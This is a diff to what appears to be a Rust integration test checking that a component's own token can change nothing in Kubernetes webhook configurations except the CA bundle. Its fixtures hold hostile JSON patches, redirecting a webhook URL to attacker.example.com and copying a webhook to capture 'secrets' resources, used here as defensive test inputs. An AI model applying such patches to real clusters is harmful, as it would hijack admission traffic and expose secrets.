@@ -20,9 +20,9 @@ fn changes() -> Vec<(&'static str, Value)> {
         {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.com/"},
     ]);
     let copied = json!([
-        {"op": "copy", "from": "/webhooks/0", "path": "/webhooks/-"},
-        {"op": "replace", "path": "/webhooks/1/name", "value": "another.example.com"},
-        {"op": "replace", "path": "/webhooks/1/rules/0/resources", "value": ["secrets"]},
+        {"op": "copy", "from": "/webhooks/0", "path": "/webhooks/0"},
+        {"op": "replace", "path": "/webhooks/0/name", "value": "another.example.com"},
+        {"op": "replace", "path": "/webhooks/0/rules/0/resources", "value": ["secrets"]},
     ]);
     let swapped = json!([{"op": "move", "from": "/webhooks/0", "path": "/webhooks/1"}]);
     let condition = json!([{"name": "never", "expression": "false"}]);
@@ -68,13 +68,14 @@ async fn its_own_token_changes_nothing_but_ca_bundle() {
     cluster.apply("deploy");
     cluster.apply("deploy/optional/verify.yaml");
     let own = cluster.admin().with_token(&cluster.token().await);
-    let label = json!([{"op": "add", "path": "/metadata/labels", "value": {"a": "b"}}]);
-    cluster
-        .until("the policy is in force", async || {
-            // A label does no harm until then.
-            try_it(&own, MUTATING, &label).await.is_err()
-        })
-        .await;
+    let number = std::cell::Cell::new(0);
+    let label = || {
+        number.set(number.get() + 1);
+        json!([{"op": "add", "path": "/metadata/labels", "value": {"number": number.get().to_string()}}])
+    };
+    // A label does no harm until then.
+    let in_force = async || try_it(&own, MUTATING, &label()).await.is_err();
+    cluster.until("the policy is in force", in_force).await;
     for resource in [MUTATING, VALIDATING] {
         let before = cluster.admin().get(&path(resource)).await.unwrap();
         let mut changes = changes();
